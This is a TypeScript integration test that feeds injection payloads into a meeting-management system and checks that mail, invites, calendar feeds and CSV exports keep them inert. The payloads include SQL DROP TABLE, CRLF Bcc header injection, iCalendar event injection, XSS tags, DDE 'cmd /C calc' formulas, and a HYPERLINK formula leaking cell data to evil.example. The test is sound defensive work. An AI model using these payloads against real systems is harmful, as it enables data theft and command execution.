import { parse } from 'csv-parse/sync';
import * as ical from 'node-ical';
import { DataSource } from 'typeorm';
import type { Agenda, Meeting, Organization, Participant, WorkItem } from '@jcg/contracts';
import { FixedClock } from '@jcg/persistence';
import { createTestEnvironment, waitFor, type TestEnvironment } from '@jcg/testing';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { csvValue } from '../../apps/api/src/http/csv';
import { parameterText } from '../../apps/notifications/src/mail/calendar';
import { MailSink, type CapturedMessage } from '../../tools/mail-sink/mail-sink';
import { Http, createKey, type HttpResult } from '../support/http';
import { MembershipCast } from '../support/membership-cast';
import { findPart, parseMime, textOf } from '../support/mime';
import { TestSystem } from '../support/test-system';

const NOW = new Date('2026-12-01T09:00:00Z');
const DAY = 24 * 3600_000;

/** Strings that would do harm if any output took them as syntax. */
const HOSTILE = {
  sql: "Robert'); DROP TABLE participants; --",
  crlfHeader: 'x\r\nBcc: evil@example.com',
  icalendar: 'x\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-1+2',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  script: '<script>alert(1)</script>',
  image: '<img src=x onerror=alert(1)>',
  markdown: '[click](javascript:alert(1)) ![x](http://evil.example/x.png)',
} as const;
/** Those that hold no control character: ordinary text as far as any contract may care, so always accepted. */
const PRINTABLE: (keyof typeof HOSTILE)[] = ['sql', 'formula', 'plus', 'minus', 'at', 'script', 'image', 'markdown'];
const unfold = (text: string) => text.replace(/\r\n[ \t]/g, '');
/** iCalendar has one line break, written `\n` in a value (RFC 5545, 3.3.11): a CRLF in a title comes back as LF. */
const asInCalendar = (text: string) => text.replace(/\r\n?/g, '\n');

/** Accepted (stored and returned as sent, trimmed), or refused as a whole with a 400 problem. */
function acceptedOrRefused(result: HttpResult, what: string): boolean {
  if (result.status === 400) {
    expect(result.contentType).toMatch(/^application\/problem\+json/);
    return false;
  }
  if (result.status >= 300) throw new Error(`${what} answered ${result.status}: ${result.text}`);
  return true;
}

/** The header lines of a message (unfolded), as name and value. */
function headersOf(raw: string): [string, string][] {
  const head = raw.slice(0, raw.search(/\r?\n\r?\n/)).replace(/\r?\n[ \t]+/g, ' ');
  return head.split(/\r?\n/).map((line) => {
    const colon = line.indexOf(':');
    return [line.slice(0, colon).toLowerCase(), line.slice(colon + 1).trim()];
  });
}

/** What a calendar client sees: the VEVENTs of a calendar, by an independent parser. */
function eventsOf(calendar: string): ical.VEvent[] {
  return Object.values(ical.sync.parseICS(calendar)).filter((c): c is ical.VEvent => c?.type === 'VEVENT');
}

/** A formula cell starts with one of these (OWASP, CSV injection): it must never be written so. */
const FORMULA_START = /^[=+\-@\t\r\n]/;

/**
 * Hostile input (SQL, CRLF and header injection, iCalendar, CSV formulas, HTML, Markdown) in
 * names, titles, agenda items and register entries: stored and returned verbatim (or refused
 * with a 400 problem), and harmless in mail headers and bodies, invites, the calendar feed and
 * the CSV exports.
 */
describe('hostile strings in names, titles, agenda items and register entries', () => {
  let env: TestEnvironment;
  let system: TestSystem;
  let sink: MailSink;
  let http: Http;
  let cast: MembershipCast;
  let notifications: NestFastifyApplication;
  let reporting: NestFastifyApplication;
  const clock = new FixedClock(NOW);

  beforeAll(async () => {
    env = await createTestEnvironment('injection');
    system = new TestSystem(env);
    sink = new MailSink();
    const { smtpPort } = await sink.start({ smtp: 0, http: 0 });
    const membership = await system.start('membership');
    await system.start('meetings', { clock });
    await system.start('agenda', { clock });
    reporting = await system.start('reporting');
    notifications = await system.start('notifications', {
      extra: { mail: { smtpUrl: `smtp://127.0.0.1:${smtpPort}` } },
    });
    http = Http.of(await system.start('api'));
    cast = new MembershipCast(http, await createKey(membership, { kind: 'admin' }));
  });

  afterAll(async () => {
    await system.stopAll();
    await sink.stop();
    await env.cleanup();
  });

  it('stores them verbatim and keeps them inert in mail, invites, the feed and the roster', async () => {
    const scene = await cast.scene();
    const g = scene.group.id;

    // An organization and participants named with every hostile string.
    const organization = await http.post<Organization>(
      '/v1/organizations',
      { name: `${HOSTILE.formula} ${HOSTILE.script}`, category: 'sector-member', studyGroups: ['SG17'] },
      cast.adminKey,
    );
    expect(organization.status).toBe(201);
    expect(organization.body.name).toBe(`${HOSTILE.formula} ${HOSTILE.script}`);
    await cast.admit(g, organization.body.id);
    const people: Participant[] = [];
    for (const [kind, name] of Object.entries(HOSTILE)) {
      const answer = await http.post<Participant>(
        `/v1/groups/${g}/participants`,
        { organizationId: organization.body.id, name, email: `${kind.toLowerCase()}@example.org`, timeZone: 'UTC' },
        cast.adminKey,
      );
      if (!acceptedOrRefused(answer, `participant ${kind}`)) continue;
      expect(answer.body.name).toBe(name.trim());
      expect(
        (await http.get<Participant>(`/v1/groups/${g}/participants/${answer.body.id}`, cast.adminKey)).body.name,
      ).toBe(name.trim());
      people.push(answer.body);
    }
    for (const kind of PRINTABLE) expect(people.map((p) => p.name)).toContain(HOSTILE[kind]);

    // A meeting whose title tries to end the event and start another; if refused, the printable ones.
    const start = NOW.getTime() + 14 * DAY;
    const proposal = (title: string) =>
      http.post<Meeting>(
        `/v1/groups/${g}/meetings`,
        { title, startsAt: new Date(start).toISOString(), endsAt: new Date(start + 3600_000).toISOString() },
        scene.convenorKey,
      );
    let title: string = `Review ${HOSTILE.icalendar} ${HOSTILE.crlfHeader}`;
    let proposed = await proposal(title);
    if (!acceptedOrRefused(proposed, 'the meeting')) {
      title = `Review ${HOSTILE.sql} ${HOSTILE.script} ${HOSTILE.markdown}`;
      proposed = await proposal(title);
      expect(proposed.status).toBe(201);
    }
    const meeting = proposed.body;
    expect(meeting.title).toBe(title);
    expect(meeting.state).toBe('agreed');
    await cast.draftAgenda(g, meeting.id);
    expect(
      (
        await http.call('PUT', `/v1/groups/${g}/meetings/${meeting.id}/join-details`, {
          key: scene.convenorKey,
          body: { url: 'https://meetings.example.int/j/1' },
        })
      ).status,
    ).toBe(200);

    // Agenda items, one per hostile string (those with CR/LF may be refused as a whole: then without them).
    const item = (text: string) => ({ title: text, presenter: text, minutes: 5, documents: [] });
    let items = Object.values(HOSTILE).map(item);
    const agendaPath = `/v1/groups/${g}/meetings/${meeting.id}/agenda`;
    let agenda = await http.call<Agenda>('PUT', agendaPath, { key: scene.convenorKey, body: { items } });
    if (!acceptedOrRefused(agenda, 'the agenda')) {
      items = PRINTABLE.map((kind) => item(HOSTILE[kind]));
      agenda = await http.call<Agenda>('PUT', agendaPath, { key: scene.convenorKey, body: { items } });
      expect(agenda.status).toBe(200);
    }
    expect((await http.get<Agenda>(agendaPath, scene.convenorKey)).body.items).toEqual(
      items.map((i) => ({ ...i, title: i.title.trim(), presenter: i.presenter.trim() })),
    );

    // Announced: the list's announcement (with the agenda) and an invite to each active participant.
    const active = await http.get<{ items: unknown[] }>(`/v1/groups/${g}/roster.json`, scene.convenorKey);
    expect(active.status).toBe(200);
    await waitFor(
      async () =>
        (
          await notifications
            .get(DataSource)
            .query<{ n: number }[]>(
              `SELECT count(*)::int AS n FROM notifications.roster WHERE group_id = $1 AND status = 'active'`,
              [g],
            )
        )[0].n === active.body.items.length,
      'notifications to know the roster',
    );
    expect((await http.post(`/v1/groups/${g}/meetings/${meeting.id}/announcement`, {}, scene.convenorKey)).status).toBe(
      200,
    );
    const expected = active.body.items.length + 1;
    const messages: CapturedMessage[] = await waitFor(
      () => (sink.messages.length === expected ? sink.messages : undefined),
      'the announcement and every invite',
    );

    const invited = new Map(people.map((p) => [p.email, p]));
    for (const message of messages) {
      // Headers: one recipient, the one of the envelope; nothing a title or a name could add.
      expect(message.envelopeTo).toHaveLength(1);
      const headers = headersOf(message.raw);
      const names = headers.map(([name]) => name);
      expect(names.filter((n) => ['bcc', 'cc', 'to', 'subject', 'from', 'reply-to'].includes(n)).sort()).toEqual([
        'from',
        'subject',
        'to',
      ]);
      expect(names).not.toContain('begin');
      expect(headers.find(([n]) => n === 'to')![1]).toContain(message.envelopeTo[0]);
      expect(message.subject).toContain('Review');
      expect(message.subject).not.toMatch(/[\r\n]/);

      // The HTML part shows the strings as text: no element of theirs.
      const root = parseMime(message.raw);
      const html = textOf(findPart(root, 'text/html')!);
      expect(html).not.toMatch(/<script|<img/i);

      const calendarPart = findPart(root, 'text/calendar');
      if (message.envelopeTo[0] === scene.group.mailingList) {
        expect(calendarPart).toBeUndefined();
        const text = textOf(findPart(root, 'text/plain')!);
        for (const i of items) expect(text).toContain(i.title.trim());
        expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
        continue;
      }
      // The invite: exactly one event, its summary and the attendee's name exactly as stored.
      const calendar = textOf(calendarPart!);
      expect(unfold(calendar).match(/^BEGIN:VEVENT/gm)).toHaveLength(1);
      expect(unfold(calendar).match(/^SUMMARY/gm)).toHaveLength(1);
      const events = eventsOf(calendar);
      expect(events).toHaveLength(1);
      expect(events[0].summary).toBe(asInCalendar(`${scene.group.acronym}: ${title}`));
      const person = invited.get(message.envelopeTo[0]);
      if (person) {
        // Read strictly (RFC 5545: a quoted parameter ends at the next DQUOTE): the name, then the address.
        const attendee = /^ATTENDEE;(?:[A-Z-]+=(?:"[^"]*"|[^;:"]*);)*CN="([^"]*)"(?:;[^:]*)?:(.*)$/m.exec(
          unfold(calendar),
        );
        expect(attendee?.[2].toLowerCase()).toBe(`mailto:${person.email}`);
        expect(attendee?.[1]).toBe(parameterText(person.name));
      }
    }
    expect(messages.filter((m) => invited.has(m.envelopeTo[0]))).toHaveLength(people.length);

    // The group's calendar feed: one event, the title verbatim.
    const feed = await http.get<string>(`/v1/calendar/groups/${g}.ics`, scene.convenorKey);
    expect(feed.status).toBe(200);
    const feedEvents = eventsOf(feed.text);
    expect(feedEvents).toHaveLength(1);
    expect(feedEvents[0].summary).toContain(asInCalendar(title));
    expect(unfold(feed.text).match(/^BEGIN:VEVENT/gm)).toHaveLength(1);

    // The roster: no cell a spreadsheet would run, and each name read back exactly.
    const roster = await http.get<string>(`/v1/groups/${g}/roster.csv`, scene.convenorKey);
    expect(roster.status).toBe(200);
    const rows = parse<Record<string, string>>(roster.text, { columns: true });
    for (const row of rows) for (const value of Object.values(row)) expect(value).not.toMatch(FORMULA_START);
    expect(rows.map((r) => csvValue(r.name)).sort()).toEqual(
      (active.body.items as { name: string }[]).map((p) => p.name).sort(),
    );
    for (const p of people) expect(rows.map((r) => csvValue(r.name))).toContain(p.name);
    expect(rows.find((r) => r.email === people[0].email)?.organization).toBe(`'${organization.body.name}`);
  });

  it('stores register entries verbatim and writes them to CSV as text, which reads back the same', async () => {
    const scene = await cast.scene();
    const g = scene.group.id;
    await waitFor(
      async () =>
        (await reporting.get(DataSource).query<unknown[]>('SELECT 1 FROM reporting.known_groups WHERE id = $1', [g]))
          .length === 1,
      'reporting to know the group',
    );
    const titles = PRINTABLE.map((kind) => HOSTILE[kind]);
    const made: WorkItem[] = [];
    for (const [i, title] of titles.entries()) {
      const answer = await http.post<WorkItem>(
        `/v1/groups/${g}/work-items`,
        {
          identifier: `X.iotsec-${i + 1}`,
          kind: 'draft',
          title,
          studyGroup: 'SG17',
          status: 'under-study',
          statusDate: '2026-06-01',
        },
        scene.convenorKey,
      );
      expect([answer.status, answer.text]).toEqual([201, expect.any(String)]);
      expect(answer.body.title).toBe(title);
      made.push(answer.body);
    }
    for (const [index, text] of [HOSTILE.crlfHeader, HOSTILE.icalendar].entries()) {
      const answer = await http.post<WorkItem>(
        `/v1/groups/${g}/work-items`,
        {
          identifier: `X.iotsec-${titles.length + index + 1}`,
          kind: 'draft',
          title: text,
          studyGroup: 'SG17',
          status: 'under-study',
          statusDate: '2026-06-01',
        },
        scene.convenorKey,
      );
      if (acceptedOrRefused(answer, 'a work item with CR/LF')) made.push(answer.body);
    }

    const csv = await http.get<string>(`/v1/groups/${g}/work-items.csv`, scene.convenorKey);
    expect(csv.status).toBe(200);
    const rows = parse<Record<string, string>>(csv.text, { columns: true });
    expect(rows).toHaveLength(made.length);
    for (const row of rows) for (const value of Object.values(row)) expect(value).not.toMatch(FORMULA_START);
    expect(rows.map((r) => csvValue(r.title)).sort()).toEqual(made.map((m) => m.title).sort());

    // The file imported again changes nothing: the quote that neutralised a formula is taken off.
    const back = await http.call('POST', `/v1/groups/${g}/work-items.csv`, {
      key: scene.convenorKey,
      rawBody: csv.text,
      headers: { 'content-type': 'text/csv' },
    });
    expect(back.status).toBeLessThan(300);
    const after = await http.get<{ items: WorkItem[] }>(`/v1/groups/${g}/work-items`, scene.convenorKey);
    expect(after.body.items.map((i) => i.title).sort()).toEqual(made.map((m) => m.title).sort());
  });
});
